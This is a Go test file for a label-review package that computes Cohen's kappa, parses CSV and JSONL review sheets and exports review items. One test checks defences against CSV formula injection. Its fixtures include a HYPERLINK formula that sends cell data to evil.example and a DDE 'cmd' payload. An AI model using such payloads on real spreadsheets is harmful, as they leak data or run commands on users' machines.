package review

import (
	"encoding/csv"
	"errors"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/polynfi/polynfi/mine"
	"github.com/polynfi/polynfi/nfi"
)

func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestKappaWorkedExample: 50 items; both accept 20, A accept/B reject 5,
// A reject/B accept 10, both reject 15.
//
//	p_o = (20 + 15) / 50 = 0.7
//	A accepts 25/50 = 0.5, B accepts 30/50 = 0.6
//	p_e = 0.5·0.6 + 0.5·0.4 = 0.5
//	κ = (0.7 − 0.5) / (1 − 0.5) = 0.4
func TestKappaWorkedExample(t *testing.T) {
	t.Parallel()
	var a, b strings.Builder
	a.WriteString("id,repo,label,aspect,note\n")
	add := func(n int, la, lb string) {
		for range n {
			id := fmt.Sprintf("r@c:%d.py", a.Len())
			fmt.Fprintf(&a, "%s,o/r,%s,DOC,\n", id, la)
			fmt.Fprintf(&b, "{\"id\":%q,\"label\":%q,\"aspect\":\"doc\"}\n", id, lb)
		}
	}
	add(20, "accept", "accept")
	add(5, "Accept", "reject")
	add(10, "reject", "accept")
	add(15, "reject", "reject")
	la, err := ReadLabels(writeFile(t, "a.csv", a.String()))
	if err != nil {
		t.Fatal(err)
	}
	lb, err := ReadLabels(writeFile(t, "b.jsonl", b.String()))
	if err != nil {
		t.Fatal(err)
	}
	ag, err := Kappa(la, lb, "label", "a.csv", "b.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	if !ag.Defined || math.Abs(ag.Kappa-0.4) > 1e-12 || math.Abs(ag.Observed-0.7) > 1e-12 || math.Abs(ag.Expected-0.5) > 1e-12 {
		t.Errorf("got κ %v (p_o %v, p_e %v, defined %v), want 0.4 (0.7, 0.5)", ag.Kappa, ag.Observed, ag.Expected, ag.Defined)
	}
	if d := cmp.Diff([][]int{{20, 5}, {10, 15}}, ag.Table); d != "" {
		t.Errorf("table (-want +got):\n%s", d)
	}
	if *ag.Accepted != (Accepted{A: 25, B: 30, Both: 20}) {
		t.Errorf("accepted: got %+v", *ag.Accepted)
	}
	// Aspect agreement is perfect but degenerate: p_e = 1, κ undefined.
	asp, err := Kappa(la, lb, "aspect", "a", "b")
	if err != nil || asp.Defined || asp.Observed != 1 {
		t.Errorf("aspect: got %+v, %v; want an undefined κ with p_o = 1", asp, err)
	}
}

func TestKappaErrors(t *testing.T) {
	t.Parallel()
	a := []Label{{ID: "x", Label: Accept}, {ID: "y", Label: Reject}}
	b := []Label{{ID: "x", Label: Accept}, {ID: "z", Label: Reject}}
	_, err := Kappa(a, b, "label", "A.csv", "B.csv")
	var mm *MismatchError
	if !errors.As(err, &mm) || !cmp.Equal(mm.OnlyA, []string{"y"}) || !cmp.Equal(mm.OnlyB, []string{"z"}) {
		t.Fatalf("got %v, want unmatched y and z", err)
	}
	if !strings.Contains(err.Error(), "1 ids only in A.csv: y") {
		t.Errorf("message %q does not name the file and id", err)
	}
}

func TestReadLabelsErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, content, want string
	}{
		{"a.csv", "id,label\nx,accept\ny,maybe\n", `a.csv:3: field "label": unknown label "maybe"`},
		{"a.csv", "id,label\nx,\n", `a.csv:2: field "label": item x is not labelled`},
		{"a.csv", "id,verdict\nx,accept\n", `a.csv:1: header has no "label" column`},
		{"a.csv", "id,label,aspect\nx,accept,SPEED\n", `a.csv:2: field "aspect": unknown aspect "SPEED"`},
		{"a.csv", "id,label\nx,accept\n\"multi\nline\",accept\nx,reject\n", `a.csv:5: field "id": "x" repeats line 2`},
		{"b.jsonl", "{\"id\":\"x\",\"label\":\"accept\"}\n\n{\"id\":\"y\"}\n", `b.jsonl:3: field "label": missing`},
		{"b.jsonl", "{\"id\":3,\"label\":\"accept\"}\n", `b.jsonl:1: field "id": number is not a string`},
		{"b.jsonl", "{\"id\":\"x\",\"label\":\"accept\"\n", `b.jsonl:1: unexpected end of JSON input`},
	}
	for _, tt := range tests {
		_, err := ReadLabels(writeFile(t, tt.name, tt.content))
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%q: got %v, want an error containing %q", tt.content, err, tt.want)
		}
	}
}

func TestExportRoundTrip(t *testing.T) {
	t.Parallel()
	c := mine.Candidate{ID: "o/r@abc:m.py", Repo: "o/r", Commit: "abc", PRNumber: 7, File: "m.py", Subject: "Add docs, \"quoted\"",
		Before: "def f():\n    pass\n", After: "def f():\n    \"\"\"Do.\"\"\"\n    pass\n",
		Improvement: improvement(t, `{"DOC": 0.0526}`), Flipped: []nfi.Flip{{ID: "DOC-R04", After: true}},
		Keywords: map[string][]string{"DOC": {"docs"}}}
	it := NewItem(c, 0)
	if it.Improvement["DOC"] != 5.3 || it.Flipped != "DOC-R04+" || it.Keywords != "DOC:docs" {
		t.Errorf("item: got %+v", it)
	}
	if want := "--- a/m.py\n+++ b/m.py\n@@ -1,2 +1,3 @@\n def f():\n+    \"\"\"Do.\"\"\"\n     pass\n"; it.Diff != want {
		t.Errorf("diff: got %q, want %q", it.Diff, want)
	}
	dir := t.TempDir()
	paths, err := Export(dir, []string{"A", "B"}, []Item{it})
	if err != nil || len(paths) != 4 {
		t.Fatalf("export: %v %v", paths, err)
	}
	// Unlabelled sheets are rejected with the line of the first row (the
	// CSV's line 1 is its header).
	for _, p := range paths {
		line := map[string]string{".csv": ":2:", ".jsonl": ":1:"}[filepath.Ext(p)]
		if _, err := ReadLabels(p); err == nil || !strings.Contains(err.Error(), line+" field \"label\": item o/r@abc:m.py is not labelled") {
			t.Errorf("%s: got %v, want a not-labelled error at %s", p, err, line)
		}
	}
	// A reviewer fills the CSV label column: it reads back.
	data, _ := os.ReadFile(filepath.Join(dir, "review_A.csv"))
	filled := strings.Replace(string(data), ",,,\n", ",accept,DOC,looks right\n", 1)
	p := writeFile(t, "filled.csv", filled)
	ls, err := ReadLabels(p)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff([]Label{{ID: "o/r@abc:m.py", Label: Accept, Aspect: "DOC", Note: "looks right", Line: 2}}, ls); d != "" {
		t.Errorf("labels (-want +got):\n%s", d)
	}
}

func improvement(t *testing.T, js string) nfi.Improvement {
	var im nfi.Improvement
	if err := im.UnmarshalJSON([]byte(js)); err != nil {
		t.Fatal(err)
	}
	return im
}

func FuzzReadLabels(f *testing.F) {
	f.Add([]byte("id,label\nx,accept\n"), true)
	f.Add([]byte("{\"id\":\"x\",\"label\":\"reject\"}\n"), false)
	f.Fuzz(func(t *testing.T, data []byte, isCSV bool) {
		var ls []Label
		var err error
		if isCSV {
			ls, err = parseCSVLabels("f.csv", data)
		} else {
			ls, err = parseJSONLLabels("f.jsonl", data)
		}
		if err != nil {
			return
		}
		for _, l := range ls {
			if l.Line < 1 {
				t.Fatalf("label %+v has no line", l)
			}
		}
	})
}

func TestDecide(t *testing.T) {
	t.Parallel()
	a := []Label{{ID: "1", Label: Accept, Aspect: "DOC"}, {ID: "2", Label: Accept}, {ID: "3", Label: Accept, Aspect: "DOC"}, {ID: "4", Label: Reject}}
	b := []Label{{ID: "1", Label: Accept}, {ID: "2", Label: Reject}, {ID: "3", Label: Accept, Aspect: "ERR"}, {ID: "4", Label: Reject}}
	dec, rep, err := Decide([][]Label{a, b}, []string{"a", "b"})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]mine.Decision{"1": {Accept: true, Aspect: "DOC"}, "2": {}, "3": {}, "4": {}}
	if d := cmp.Diff(want, dec); d != "" {
		t.Errorf("decisions (-want +got):\n%s", d)
	}
	if rep != (DecideReport{Items: 4, Accepted: 1, Disagreements: 1, AspectConflicts: 1}) {
		t.Errorf("report: got %+v", rep)
	}
	if _, _, err := Decide([][]Label{a, b[:3]}, []string{"a", "b"}); err == nil {
		t.Error("got no error for an id missing from the second sheet")
	}
}

// TestCSVCellsAreNotFormulas: a review sheet opened in a spreadsheet must
// not compute a cell that came from a mined repository (OWASP CSV
// injection: cells starting with =, +, -, @, tab or CR): each gets a
// leading "'", and the id still reads back as itself.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	t.Parallel()
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"}
	var items []Item
	for i, s := range evil {
		items = append(items, Item{ID: s + string(rune('a'+i)), Repo: "o/r", Commit: "abc", File: s, Subject: s, Diff: "--- a/m.py\n+++ b/m.py\n"})
	}
	var b strings.Builder
	if err := WriteCSV(&b, items); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: cell %q starts a formula", csvHeader[j], cell)
			}
		}
	}
	// labelled and read back: the ids are the items' own
	filled := strings.ReplaceAll(b.String(), ",,,\n", ",accept,,\n")
	ls, err := ReadLabels(writeFile(t, "filled.csv", filled))
	if err != nil {
		t.Fatal(err)
	}
	if len(ls) != len(items) {
		t.Fatalf("got %d labels, want %d", len(ls), len(items))
	}
	for i, l := range ls {
		if l.ID != strings.TrimSpace(items[i].ID) {
			t.Errorf("label %d: id %q, want %q", i, l.ID, items[i].ID)
		}
	}
}
